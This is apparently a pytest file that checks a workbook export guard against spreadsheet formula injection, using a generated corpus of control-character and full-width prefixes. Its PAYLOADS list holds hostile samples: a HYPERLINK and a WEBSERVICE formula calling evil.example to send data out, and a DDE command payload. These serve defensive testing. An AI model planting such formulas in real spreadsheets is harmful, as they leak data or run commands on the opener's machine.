"""No text reaches a written workbook as a live formula (issue 13, item 6).

The quote-prefix guard looked at the text before control characters were stripped:
"\\x01=HYPERLINK(…)" passed it, lost its \\x01, and was written as a formula. A generated
corpus of prefixes (control characters, spaces, =, +, -, @ and their full-width forms) is
written through the export and read back from the file's XML.
"""

from __future__ import annotations

import itertools
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from dxdesk.core.exchange import workbook as wbk
from dxdesk.core.exchange.workbook_write import ExportRefused, _put_text, looks_like_formula

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    '=WEBSERVICE("http://evil.example/")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(A1:A9)",
]
CONTROL = [chr(c) for c in range(0x00, 0x20)] + ["\x7f"]
SPACES = [" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\t", "\r", "\n"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", ""]


def _corpus() -> list[str]:
    prefixes = {""}
    for first, second in itertools.product(["", *CONTROL, *SPACES], ["", *CONTROL[:4], *SPACES]):
        for start in STARTS:
            prefixes.add(first + second + start)
    return [prefix + PAYLOADS[i % len(PAYLOADS)] for i, prefix in enumerate(sorted(prefixes))]


def _no_formula(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), name


def test_no_generated_text_is_written_as_a_formula_by_the_cell_writer(tmp_path):
    """The guard itself: every text of the corpus, control characters included."""
    texts = _corpus()
    assert len(texts) > 3_000
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, text in enumerate(texts, start=1):
        _put_text(ws.cell(row=row, column=1), text)
    path = tmp_path / "o.xlsx"
    wb.save(path)
    _no_formula(path)
    for row in openpyxl.load_workbook(path).active.iter_rows():
        cell = row[0]
        assert cell.data_type == "s", repr(cell.value)
        if looks_like_formula(str(cell.value)):
            assert cell.quotePrefix, repr(cell.value)


def test_the_export_refuses_what_it_cannot_write_and_writes_no_formula(tmp_path):
    """Through the export (also what an agency's signed report brought in): a text with a
    control character is refused (issue 13 item 5), every other one is plain text."""
    texts = _corpus()
    batch = {
        "task": [
            {
                "code": f"NV{i:05d}",
                "text": text,
                "blocker": text,
                "status": "not_started",
                "deadline": date(2024, 1, 1),
            }
            for i, text in enumerate(texts)
        ],
    }
    with pytest.raises(ExportRefused) as refused:
        wbk.write_workbook(tmp_path / "x.xlsx", batch)
    bad = {i for i, t in enumerate(texts) if ILLEGAL_CHARACTERS_RE.search(t)}
    assert {e.row - 2 for e in refused.value.errors} == bad
    assert not (tmp_path / "x.xlsx").exists()
    batch["task"] = [r for i, r in enumerate(batch["task"]) if i not in bad]
    path = tmp_path / "xuat.xlsx"
    wbk.write_workbook(path, batch)
    _no_formula(path)
    ws = openpyxl.load_workbook(path)["Nhiệm vụ"]
    titles = [str(c.value).removesuffix(" *") for c in ws[1]]
    column = titles.index("Vướng mắc")
    for row in ws.iter_rows(min_row=2):
        assert row[column].data_type == "s", repr(row[column].value)
        assert row[column].quotePrefix == looks_like_formula(str(row[column].value))


def test_the_guard_decides_on_the_text_as_written():
    assert looks_like_formula("=1")
    assert looks_like_formula("  \uff1dHYPERLINK()")
    assert looks_like_formula("\t=1")
    assert not looks_like_formula("Sở Nội vụ")
    assert not looks_like_formula("")
